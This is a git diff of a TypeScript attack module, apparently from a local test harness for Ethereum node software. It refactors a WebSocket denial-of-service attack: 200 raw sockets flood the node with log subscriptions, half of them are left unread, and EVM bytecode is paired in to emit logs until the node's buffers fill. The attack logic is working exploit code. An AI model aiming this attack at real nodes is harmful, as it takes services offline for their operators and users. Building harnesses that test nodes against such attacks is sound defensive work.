@@ -1,6 +1,7 @@
 import { connect, type Socket } from 'node:net'
 import { setTimeout as pause } from 'node:timers/promises'
 import type { Attack } from '../attack.ts'
+import { call, frame, webSocketOpening } from '../rawSockets.ts'
 import type { Target } from '../target.ts'
 
 const sockets = 200
@@ -9,14 +10,7 @@ const blocks = 2
 /** Emits logs with the topic 1 until 16 Ki gas are left. */
 const emitting = '0x5b600160006000a15a61400010600057'
 
-const opening = (path: string): string =>
-  `GET ${path} HTTP/1.1\r\nhost: 127.0.0.1\r\nupgrade: websocket\r\nconnection: upgrade\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\nsec-websocket-version: 13\r\n\r\n`
-const subscription = '{"jsonrpc":"2.0","id":1,"method":"eth_subscribe","params":["logs",{}]}'
-/** A masked frame of up to 125 bytes whose mask is zero (RFC 6455, section 5.2). */
-const frame = Buffer.concat([
-  Buffer.from([0x81, 0x80 | subscription.length, 0, 0, 0, 0]),
-  Buffer.from(subscription),
-])
+const subscription = frame(call('eth_subscribe', 'logs', {}))
 
 /** Every second socket is not read after its subscriptions. */
 async function subscribe({ port, attacker }: Target): Promise<Socket[]> {
@@ -24,8 +18,8 @@ async function subscribe({ port, attacker }: Target): Promise<Socket[]> {
   for (let index = 0; index < sockets; index++) {
     const socket = connect(port, '127.0.0.1')
     socket.on('error', () => {}).resume()
-    socket.write(opening(attacker.url.pathname))
-    for (let count = 0; count < subscriptionsOfSocket; count++) socket.write(frame)
+    socket.write(webSocketOpening(attacker.url.pathname))
+    for (let count = 0; count < subscriptionsOfSocket; count++) socket.write(subscription)
     opened.push(socket)
     if (index % 20 === 0) await pause(50)
   }
